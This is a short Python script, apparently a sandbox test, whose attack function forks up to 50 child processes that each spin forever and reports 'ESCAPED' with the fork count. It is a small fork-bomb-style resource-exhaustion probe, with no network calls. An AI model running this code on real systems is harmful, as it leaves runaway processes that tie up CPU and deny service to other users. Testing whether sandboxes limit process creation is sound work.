"""Forks without end."""
# replies: Returned, Returned

# %%
import os


def attack(x):
    forks = 0
    for _ in range(50):
        try:
            if os.fork() == 0:
                while True:
                    pass
            forks += 1
        except OSError:
            pass
    return f"ESCAPED: {forks} forks" if forks else 0


print(attack(0))
